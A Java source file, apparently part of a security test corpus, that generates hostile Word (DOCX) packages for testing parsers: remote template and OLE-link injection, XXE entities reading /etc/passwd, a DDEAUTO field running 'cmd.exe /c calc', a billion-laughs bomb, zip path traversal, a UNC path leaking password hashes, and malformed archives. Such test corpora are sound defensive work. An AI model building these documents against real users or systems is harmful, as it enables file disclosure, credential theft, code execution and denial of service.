package org.junitsandbox.corpus;

import static org.junitsandbox.corpus.Attack.ACTIVE_CONTENT;
import static org.junitsandbox.corpus.Attack.AMBIGUITY;
import static org.junitsandbox.corpus.Attack.BOMB;
import static org.junitsandbox.corpus.Attack.DETECTION;
import static org.junitsandbox.corpus.Attack.EMPTY;
import static org.junitsandbox.corpus.Attack.ENCRYPTED;
import static org.junitsandbox.corpus.Attack.EXTERNAL_REFERENCE;
import static org.junitsandbox.corpus.Attack.LOOP;
import static org.junitsandbox.corpus.Attack.MALFORMED;
import static org.junitsandbox.corpus.Attack.MANY_ENTRIES;
import static org.junitsandbox.corpus.Attack.NESTING;
import static org.junitsandbox.corpus.Attack.TRAVERSAL;
import static org.junitsandbox.corpus.Attack.TRUNCATED;

import java.util.Arrays;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Texts of Word (ECMA-376) with references, programs and loads. */
final class WordFiles {

    private static final String TEXT = OfficePackage.paragraph("<w:t>harmless</w:t>");
    private static final Family WORD =
            Family.of(Format.DOCX, Content.of(() -> plain().toArray()));
    private static final String REMOTE = "http://example.invalid/x";
    private static final String PART = "word/document.xml";
    private static final String PARTS = "word/_rels/document.xml.rels";

    private WordFiles() {}

    static Stream<HostileFile> files() {
        return Stream.of(references(), programs(), loads(), packages(), ends()).flatMap(all -> all);
    }

    private static OfficePackage plain() {
        return OfficePackage.word(TEXT);
    }

    private static HostileFile.Builder begin(
            Attack attack, String variant, String description, String reference, Supplier<OfficePackage> maker) {
        return WORD.begin(attack, variant, description, reference)
                .content(Content.of(() -> maker.get().toArray()));
    }

    private static HostileFile of(
            Attack attack, String variant, String description, String reference, Supplier<OfficePackage> maker) {
        return begin(attack, variant, description, reference, maker).build();
    }

    private static HostileFile external(
            String variant, String description, String reference, String kind, String target, String body) {
        return of(
                EXTERNAL_REFERENCE,
                variant,
                description,
                reference,
                () -> OfficePackage.word(TEXT + body).relations(PARTS, OfficePackage.external(kind, target)));
    }

    private static Stream<HostileFile> references() {
        String mode = "ECMA-376 part 2 section 6.5.3.4";
        return Stream.of(
                of(
                        EXTERNAL_REFERENCE,
                        "template",
                        "The template, which may have macros, is at an address in the network.",
                        "MITRE ATT&CK T1221, " + mode,
                        () -> plain()
                                .relations(PARTS, OfficePackage.relation("r1", "settings", "settings.xml", ""))
                                .part(
                                        "word/settings.xml",
                                        OfficePackage.wordDocument("", "<w:attachedTemplate r:id=\"r9\"/>"))
                                .relations(
                                        "word/_rels/settings.xml.rels",
                                        OfficePackage.external("attachedTemplate", REMOTE + ".dotm"))),
                external(
                        "object",
                        "A linked object is a page at an address in the network, which starts programs.",
                        "CVE-2022-30190, CVE-2017-0199, " + mode,
                        "oleObject",
                        REMOTE + ".html!",
                        "<w:object r:id=\"r9\"/>"),
                external(
                        "image",
                        "A picture is at an address in the network, whose owner sees each reader.",
                        "CWE-918, " + mode,
                        "image",
                        REMOTE + ".png",
                        "<w:pict r:id=\"r9\"/>"),
                external(
                        "image-file",
                        "A picture is the file /etc/passwd.",
                        mode,
                        "image",
                        "file:///etc/passwd",
                        "<w:pict r:id=\"r9\"/>"),
                external(
                        "image-server",
                        "A picture is on a file server, which gets the user's password hash.",
                        mode,
                        "image",
                        "\\\\example.invalid\\share\\x.png",
                        "<w:pict r:id=\"r9\"/>"),
                external(
                        "chunk",
                        "A piece of the text is a page at an address in the network.",
                        "ECMA-376 part 1 section 17.17.2.1",
                        "aFChunk",
                        REMOTE + ".html",
                        "<w:altChunk r:id=\"r9\"/>"),
                of(
                        EXTERNAL_REFERENCE,
                        "entity",
                        "An entity in the text is the file /etc/passwd.",
                        "CVE-2014-3529, ECMA-376 part 2 section 6.2.5",
                        () -> plain().part(PART, entity(PART, "&x;"))),
                of(
                        EXTERNAL_REFERENCE,
                        "entity-types",
                        "An entity in the list of types is the file /etc/passwd.",
                        "CVE-2014-3529, ECMA-376 part 2 section 6.2.5",
                        () -> plain().part("[Content_Types].xml", entity("Types", "&x;"))));
    }

    private static String entity(String root, String text) {
        String doctype = "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>";
        return root.equals(PART)
                ? OfficePackage.wordDocument(doctype, OfficePackage.paragraph("<w:t>" + text + "</w:t>"))
                : doctype + "<" + root + ">" + text + "</" + root + ">";
    }

    private static Stream<HostileFile> programs() {
        return Stream.of(
                of(
                        ACTIVE_CONTENT,
                        "macro",
                        "The document has a project of macros.",
                        "MS-OFFMACRO2 section 2.2.1",
                        () -> plain()
                                .relations(PARTS, OfficePackage.relation("r1", "vbaProject", "vbaProject.bin", ""))
                                .raw("word/vbaProject.bin", Bytes.utf8("Sub AutoOpen()\nEnd Sub\n"))),
                of(
                        ACTIVE_CONTENT,
                        "dde",
                        "A field starts a program by dynamic data exchange.",
                        "MITRE ATT&CK T1559.002, ECMA-376 part 1 section 17.16.5.15",
                        () -> OfficePackage.word(TEXT
                                + OfficePackage.paragraph("<w:instrText>DDEAUTO cmd.exe \"/c calc\"</w:instrText>"))),
                of(
                        ACTIVE_CONTENT,
                        "embedded-program",
                        "A program is embedded, for the user to open.",
                        "ECMA-376 part 1 section 15.2.11",
                        () -> plain()
                                .relations(PARTS, OfficePackage.relation("r1", "package", "embeddings/setup.exe", ""))
                                .raw("word/embeddings/setup.exe", Bytes.utf8("MZ" + Samples.TEXT))),
                of(
                        DETECTION,
                        "embedded",
                        "The EICAR test file is embedded.",
                        "ECMA-376 part 1 section 15.2.11",
                        () -> plain().raw("word/embeddings/test.txt", Samples.eicarBytes())));
    }

    private static Stream<HostileFile> loads() {
        return Stream.of(
                begin(
                                BOMB,
                                "entities",
                                "Nine layers of entities, each ten times the one below: a gigabyte of text.",
                                "CVE-2014-3574, CWE-776",
                                () -> plain().part(PART, laughs()))
                        .expandsTo(1_000_000_000, 1, 9)
                        .build(),
                begin(BOMB, "picture", "A picture of 128 MiB of zeros, packed.", "ECMA-376 part 2 section 7.3", () -> {
                            String name = "word/media/image.bmp";
                            Packed zeros = new Deflate().run(0, 128 << 20).finish();
                            return plain().member(name, ZipMember.packed(name, ZipMember.DEFLATED, zeros));
                        })
                        .expandsTo(128 << 20, 1, 1)
                        .build(),
                begin(
                                NESTING,
                                "tables",
                                "3,000 tables within each other.",
                                "ECMA-376 part 1 section 17.4.37",
                                () -> OfficePackage.word("<w:tbl><w:tr><w:tc>".repeat(3_000)
                                        + "</w:tc></w:tr></w:tbl>".repeat(3_000)))
                        .expandsTo(0, 9_000, 9_000)
                        .build(),
                begin(
                                MANY_ENTRIES,
                                "paragraphs",
                                "10,000 empty paragraphs.",
                                "ECMA-376 part 1 section 17.3.1.22",
                                () -> OfficePackage.word("<w:p/>".repeat(10_000)))
                        .expandsTo(0, 10_000, 1)
                        .build(),
                begin(
                                LOOP,
                                "styles",
                                "Two styles are based on each other.",
                                "ECMA-376 part 1 section 17.7.4.3",
                                () -> plain()
                                        .relations(PARTS, OfficePackage.relation("r1", "styles", "styles.xml", ""))
                                        .part(
                                                "word/styles.xml",
                                                OfficePackage.wordDocument("", style("a", "b") + style("b", "a"))))
                        .build());
    }

    private static String style(String id, String base) {
        return "<w:style w:styleId=\"" + id + "\"><w:basedOn w:val=\"" + base + "\"/></w:style>";
    }

    private static String laughs() {
        String layers = IntStream.rangeClosed(1, 9)
                .mapToObj(layer -> "<!ENTITY e" + layer + " '" + ("&e" + (layer - 1) + ";").repeat(10) + "'>")
                .collect(Collectors.joining("", "<!ENTITY e0 'x'>", ""));
        return OfficePackage.wordDocument(
                "<!DOCTYPE x [" + layers + "]>", OfficePackage.paragraph("<w:t>&e9;</w:t>"));
    }

    private static Stream<HostileFile> packages() {
        return Stream.of(
                of(
                        TRAVERSAL,
                        "part",
                        "The name of a part leads out of the package.",
                        "ECMA-376 part 2 section 6.2.2",
                        () -> plain().part("word/../../escaped.xml", "<x/>")),
                of(
                        TRAVERSAL,
                        "relation",
                        "A relation leads out of the package, to a file that is no part of it.",
                        "ECMA-376 part 2 section 6.5.3.4",
                        () -> plain()
                                .relations(
                                        PARTS,
                                        OfficePackage.relation("r1", "image", "../../../../../etc/passwd", ""))),
                of(
                        AMBIGUITY,
                        "part-twice",
                        "The text is there twice: a check may see the one and a program the other.",
                        "ECMA-376 part 2 section 6.2.2.3",
                        () -> plain()
                                .member(
                                        "second",
                                        ZipMember.file(
                                                PART,
                                                OfficePackage.wordDocument(
                                                        "", OfficePackage.paragraph("<w:t>other</w:t>"))))),
                of(
                        ENCRYPTED,
                        "part",
                        "The text is encrypted as an entry of the archive.",
                        "ECMA-376 part 2 annex B",
                        () -> plain().member(PART, ZipCrypto.encrypt(PART, OfficePackage.wordDocument("", TEXT)))));
    }

    private static Stream<HostileFile> ends() {
        byte[] twin = plain().toArray();
        return Stream.of(
                of(
                        MALFORMED,
                        "no-types",
                        "There is no list of types.",
                        "ECMA-376 part 2 section 7.2.3",
                        () -> plain().without("[Content_Types].xml")),
                of(
                        MALFORMED,
                        "no-document",
                        "The relation leads to a text that is not there.",
                        "ECMA-376 part 1 section 11.3.10",
                        () -> plain().without(PART)),
                of(
                        MALFORMED,
                        "not-closed",
                        "An element of the text is not closed.",
                        "XML 1.0 section 3.1",
                        () -> OfficePackage.word("<w:p>")),
                WORD.file(EMPTY, "no-bytes", "The file has no bytes.", "ECMA-376 part 2 section 7", ""),
                WORD.file(
                        EMPTY,
                        "no-parts",
                        "The archive has no parts.",
                        "ECMA-376 part 2 section 7",
                        Content.of(new ZipArchive().toArray())),
                WORD.file(
                        TRUNCATED,
                        "in-part",
                        "The file ends within a part.",
                        "APPNOTE 4.3.6",
                        Content.of(Arrays.copyOf(twin, twin.length / 2))),
                WORD.file(
                        TRUNCATED,
                        "before-end",
                        "The file ends before the end of the central directory.",
                        "APPNOTE 4.3.16",
                        Content.of(Arrays.copyOf(twin, twin.length - 22))));
    }
}
